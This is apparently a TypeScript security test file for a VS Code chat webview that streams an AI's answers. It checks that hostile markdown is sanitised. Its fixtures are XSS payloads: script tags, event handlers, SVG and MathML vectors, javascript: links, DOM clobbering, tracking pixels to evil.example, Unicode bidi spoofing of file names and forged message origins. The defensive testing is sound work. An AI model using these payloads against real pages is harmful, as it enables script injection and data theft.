import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { type ChatPage, Pages } from "./fixture/chatPage.ts";
import { answer, question, settings } from "./fixture/fakeHost.ts";
import type { Snapshot } from "../../protocol/messages.ts";

const pages = new Pages();
before(() => pages.start());
after(() => pages.stop());

/** Sets `globalThis.hacked` if it ever runs. */
const RUN = "globalThis.hacked=1";

const hostile: Record<string, string> = {
  "a script":
    `<script>${RUN}</script>\n\n<script src="https://evil.example/x.js"></script>`,
  "event handlers":
    `<img src=x onerror="${RUN}"> <b onclick="${RUN}" onmouseover="${RUN}">b</b>\n\n<body onload="${RUN}">`,
  "styles":
    `<style>body{display:none}</style><p style="position:fixed;inset:0">over everything</p>`,
  "SVG":
    `<svg onload="${RUN}"><script>${RUN}</script><image href="https://evil.example/i.svg"/></svg>`,
  "MathML": `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  "frames and objects":
    `<iframe src="https://evil.example" srcdoc="<script>parent.${RUN}</script>"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">`,
  "forms":
    `<form action="https://evil.example"><input autofocus onfocus="${RUN}"><button>Send</button></form>`,
  "a base and a refresh":
    `<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">`,
  "links of other kinds":
    `[a](command:workbench.action.quit) [b](javascript:${RUN}) [c](vscode://x/y) [d](file:///etc/passwd) [e](data:text/html,<script>${RUN}</script>) [f](vbscript:x) [g](JaVaScRiPt:${RUN}) [h](&#106;avascript:${RUN}) [i](/relative) <command:x>`,
  "images":
    `![pixel](https://evil.example/p.png?secret) ![](data:image/svg+xml,<svg onload="${RUN}"/>) ![x](javascript:${RUN} "onerror=${RUN}") ![y][ref]\n\n[ref]: https://evil.example/ref.png`,
  "attributes broken out of":
    `[x](https://example.com/"onmouseover="${RUN}) ![a" onerror="${RUN}](https://evil.example/a.png) \`\`\`"><img src=x onerror=${RUN}>\`\`\``,
  "a language that is HTML":
    `\`\`\`"><img/src=x/onerror=${RUN}>\ncode\n\`\`\`\n`,
  "HTML in tables and code":
    `| <img src=x onerror=${RUN}> |\n|---|\n| \`<script>${RUN}</script>\` |\n`,
  "names that clobber":
    `<a id="body" name="documentElement">x</a><form id="cookie"><input name="attributes"></form>`,
  "template and noscript":
    `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  "code highlighted as HTML":
    `\`\`\`html\n<img src=x onerror="${RUN}"><script>${RUN}</script>\n\`\`\`\n`,
  "nested quotes and lists": ">".repeat(5_000) + " x\n\n" + "- ".repeat(5_000) +
    "x",
  "emphasis without an end": "**a ".repeat(5_000) + "_b".repeat(5_000) +
    "[".repeat(5_000),
  "a fence without an end": `\`\`\`html\n<img src=x onerror="${RUN}">`,
};

async function assertHarmless(chat: ChatPage): Promise<void> {
  await chat.page.waitForTimeout(50);
  const found = await chat.page.evaluate(() => {
    const answerElement = document.querySelector(".answer .markdown")!;
    const attributes = [...answerElement.querySelectorAll("*")].flatMap((
      element,
    ) => [...element.attributes].map(({ name }) => name));
    return {
      hacked: "hacked" in globalThis,
      elements: answerElement.querySelectorAll(
        "script,style,img,svg,math,iframe,object,embed,form,input,base,meta,link,template,video,audio",
      ).length,
      attributes: attributes.filter((name) =>
        name.startsWith("on") ||
        ["style", "src", "srcdoc", "action", "id", "name"].includes(name)
      ),
      links: [...answerElement.querySelectorAll("[href]")]
        .map((link) => link.getAttribute("href") ?? "")
        .filter((href) => !/^(https?|mailto):/.test(href)),
    };
  });
  assert.deepEqual(found, {
    hacked: false,
    elements: 0,
    attributes: [],
    links: [],
  });
  assert.deepEqual(chat.requests, [], "something was loaded");
  assert.deepEqual(chat.problems, [], "the policy had to step in");
  assert.equal(new URL(chat.page.url()).hostname, "127.0.0.1");
}

describe("A hostile answer", () => {
  for (const [name, text] of Object.entries(hostile)) {
    it(`runs and loads nothing: ${name} [T-18]`, async () => {
      const turn = answer("", { state: "streaming" });
      const chat = await pages.open({
        snapshot: { turns: [question("Q"), turn] },
      });
      // In pieces, as half a tag may be worse than a whole one.
      const step = Math.max(3, Math.ceil(text.length / 40));
      for (let at = 0; at < text.length; at += step) {
        await chat.host.send({
          type: "append",
          turnId: turn.id,
          text: text.slice(at, at + step),
        });
        await chat.page.evaluate(() => new Promise(requestAnimationFrame));
      }
      await chat.host.send({
        type: "turn-changed",
        turnId: turn.id,
        change: { state: "complete" },
      });
      await chat.page.mouse.move(200, 300);
      await assertHarmless(chat);
      for (const link of await chat.page.locator(".answer a").all()) {
        await link.click();
      }
      await assertHarmless(chat);
      await chat.close();
    });
  }

  it("is cleaned, even if the parser let all of it through", async () => {
    const chat = await pages.open();
    const source = await readFile(
      join(process.env["ASKGPT4_PAGE_BUNDLE"] ?? "", "sanitize.js"),
      "utf8",
    );
    const html = [
      ...Object.values(hostile),
      `<a href="javascript:${RUN}">x</a><a href="https://example.com/" onclick="${RUN}" style="color:red" id="x" class="codicon image">ok</a>`,
      `<ol start="3"><li>x</li></ol><table><tr><td align="right">1</td></tr></table>`,
    ];
    const clean = await chat.page.evaluate(`${source}; (() => {
      const box = document.createElement("div");
      for (const html of ${
      JSON.stringify(html)
    }) box.append(sanitize.sanitizeMarkdown(html));
      return {
        elements: [...new Set([...box.querySelectorAll("*")].map((one) => one.localName))].sort(),
        attributes: [...new Set([...box.querySelectorAll("*")].flatMap((one) => one.getAttributeNames()))].sort(),
        links: [...box.querySelectorAll("a")].map((one) => one.outerHTML),
        hacked: "hacked" in globalThis,
      };
    })()`) as {
      elements: string[];
      attributes: string[];
      links: string[];
      hacked: boolean;
    };
    const allowed = "a b li ol p table tbody td tr".split(" ");
    assert.deepEqual(
      clean.elements.filter((name) => !allowed.includes(name)),
      [],
    );
    assert.deepEqual(clean.attributes, ["align", "href", "start", "title"]);
    assert.deepEqual(clean.links, [
      `<a href="https://example.com/" title="https://example.com/">ok</a>`,
    ]);
    assert.equal(clean.hacked, false);
    assert.deepEqual(chat.requests, []);
    await chat.close();
  });

  it("is stopped by the policy even if it got past everything else [T-18]", async () => {
    const chat = await pages.open();
    await chat.page.evaluate((run) => {
      const markdown = document.createElement("div");
      markdown.innerHTML =
        `<img src="https://evil.example/x.png" onerror="${run}"><p style="color:red">`;
      const script = document.createElement("script");
      script.textContent = run;
      document.body.append(markdown, script);
    }, RUN);
    await chat.page.waitForTimeout(100);
    assert.equal(await chat.page.evaluate(() => "hacked" in globalThis), false);
    assert(chat.problems.length >= 3, chat.problems.join("\n"));
    const fetched = chat.page.evaluate(() => fetch("https://evil.example/"));
    await assert.rejects(fetched);
    await chat.close();
  });

  it("shows what it wrote as text, instead of hiding it", async () => {
    const text =
      "Use <script> or <div class='x'>.\n\n<section>\nblock\n</section>\n\nH<sub>2</sub>O<br>and <kbd>K</kbd>";
    const chat = await pages.open({
      snapshot: { turns: [question("Q"), answer(text)] },
    });
    const shown = await chat.page.locator(".answer .markdown").innerText();
    assert.equal(
      shown.replace(/\n+/g, "\n"),
      "Use <script> or <div class='x'>.\n<section>\nblock\n</section>\nH2O\nand K",
    );
    assert.equal(await chat.page.locator(".answer sub").count(), 1);
    await chat.close();
  });

  it("opens links through VS Code, and once only [T-22]", async () => {
    const text =
      "[a](https://example.com/a?b=c&d) and ![pic](https://example.com/p.png), me@example.com";
    const chat = await pages.open({
      snapshot: { turns: [question("Q"), answer(text)] },
    });
    const { page, host } = chat;
    await page.evaluate(() => {
      // VS Code's own handler, further up.
      addEventListener(
        "click",
        () => Object.assign(globalThis, { bubbled: true }),
      );
    });
    await page.getByRole("link", { name: "a", exact: true }).click();
    assert.equal(
      (await host.next("open-link")).href,
      "https://example.com/a?b=c&d",
    );
    assert.equal(
      await page.getByRole("link", { name: "a", exact: true }).getAttribute(
        "title",
      ),
      "https://example.com/a?b=c&d",
    );
    await page.getByRole("group", { name: "Image: pic (example.com)" })
      .getByRole("link").focus();
    await page.keyboard.press("Enter");
    assert.equal(
      (await host.next("open-link")).href,
      "https://example.com/p.png",
    );
    await page.getByRole("link", { name: "me@example.com" }).click({
      button: "middle",
    });
    assert.equal((await host.next("open-link")).href, "mailto:me@example.com");
    assert.equal(await page.evaluate(() => "bubbled" in globalThis), false);
    assert.deepEqual(chat.requests, []);
    assert.equal(page.context().pages().length, 1);
    await chat.close();
  });

  it("cannot hide characters that turn the text around [T-27]", async () => {
    const evil = "access\u202E\u2066// check\u2069\u200B";
    const text =
      `Look: ${evil}\n\n\`\`\`js\nif (a) { ${evil} }\n\`\`\`\n\n[l\u202Eink](https://example.com/)`;
    const turns = [question(`Why ${evil}?`), answer(text)];
    const chat = await pages.open({ snapshot: { turns } });
    for (const place of [".bubble", ".answer p", ".answer .code-block"]) {
      const shown = await chat.page.locator(place).first().innerText();
      assert.match(
        shown,
        /accessU\+202EU\+2066\/\/ checkU\+2069U\+200B/,
        place,
      );
    }
    const all = await chat.page.locator(".turns").innerText();
    assert.doesNotMatch(all, /[\u202A-\u202E\u2066-\u2069\u200B]/);
    await chat.page.hover(".code-block");
    await chat.page.click("[data-code-action=copy]");
    assert(
      (await chat.host.next("code-action")).code.includes(evil),
      "the code itself was changed",
    );
    await chat.close();
  });

  it("cannot hide characters in names, greetings, errors and suggestions [T-27]", async () => {
    const name = "gpj\u202E\u200B\u3164\u061C\uFE0Fexe";
    const chip = {
      id: "c",
      kind: "file" as const,
      label: name,
      detail: name,
      size: 1,
      cut: false,
    };
    const shared = { chat: { id: "1", title: name }, chips: [chip] };
    const snapshots: Partial<Snapshot>[] = [
      {
        ...shared,
        settings: {
          ...settings,
          siteName: name,
          botName: name,
          greeting: name,
        },
        undo: { id: "u", text: name },
      },
      {
        ...shared,
        turns: [
          question("Q", { chips: [chip] }),
          answer("", {
            state: "failed",
            error: { message: name, hint: name, actions: [] },
            notice: name,
            shortcuts: [{ id: "0", label: name }],
            images: [{ href: "https://example.com/a.png", label: name }],
          }),
          answer("", { state: "streaming", progress: name }),
        ],
      },
      { ...shared, consent: { siteName: name, siteUrl: name } },
    ];
    for (const snapshot of snapshots) {
      const chat = await pages.open({ snapshot });
      await chat.host.send({ type: "attach-refused", message: name });
      const texts = await chat.page.evaluate(() =>
        [...document.querySelectorAll("body, body *")].flatMap((one) => [
          ...[...one.childNodes].filter((node) => node instanceof Text)
            .map((node) => node.data),
          ...["title", "aria-label", "alt", "placeholder"]
            .map((attribute) => one.getAttribute(attribute) ?? ""),
        ])
      );
      assert.deepEqual(
        texts.filter((text) =>
          /[\u202E\u200B\u3164\u061C]|x\uFE0F|j\uFE0F/.test(text)
        ),
        [],
      );
      assert.match(
        await chat.page.locator("h1").innerText(),
        /^gpjU\+202EU\+200BU\+3164U\+061CU\+FE0Fexe$/,
      );
      await chat.close();
    }
  });

  it("leaves flags, joined emoji, Persian and Thai as they are", async () => {
    const text =
      "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F} 👩‍💻 ❤️ می‌خواهم สวัสดี\u200Bโลก";
    const chat = await pages.open({
      snapshot: { turns: [question("Q"), answer(text)] },
    });
    assert.equal(
      await chat.page.locator(".answer .markdown").innerText(),
      text,
    );
    assert.equal(await chat.page.locator(".hidden-character").count(), 0);
    await chat.close();
  });

  it("shows tags that pass for a flag", async () => {
    const text = "🏴\u{E0068}\u{E0069}\u{E007F}";
    const chat = await pages.open({
      snapshot: { turns: [question("Q"), answer(text)] },
    });
    assert.equal(
      await chat.page.locator(".answer .markdown").innerText(),
      "🏴U+E0068U+E0069U+E007F",
    );
    await chat.close();
  });

  it("cannot fill the page with a giant table", async () => {
    const text = "| a | b |\n|---|---|\n" + "| 1 | 2 |\n".repeat(5_000);
    const chat = await pages.open({
      snapshot: { turns: [question("Q"), answer(text)] },
    });
    assert.equal(await chat.page.locator(".answer tbody tr").count(), 100);
    await chat.page.getByText("4900 more rows are not shown.")
      .waitFor();
    await chat.page.getByRole("button", { name: "Show All Rows" }).click();
    assert.equal(await chat.page.locator(".answer tbody tr").count(), 5_000);
    await chat.close();
  });
});

describe("A message that is not VS Code's", () => {
  it("is not taken: its origin is another [T-25]", async () => {
    const chat = await pages.open({ snapshot: { turns: [] } });
    const post = (origin: string, text: string) =>
      chat.page.evaluate(({ origin, data }) => {
        dispatchEvent(new MessageEvent("message", { data, origin }));
      }, {
        origin,
        data: {
          type: "draft-set",
          draft: { text },
          seq: chat.host.seq + 1,
        },
      });
    const { origin } = new URL(chat.page.url());
    const composer = chat.page.locator("textarea").first();
    await post("https://evil.example", "foreign");
    await post("null", "foreign");
    await post("", "foreign");
    assert.equal(await composer.inputValue(), "");
    await post(origin, "own");
    assert.equal(await composer.inputValue(), "own");
    await chat.close();
  });
});
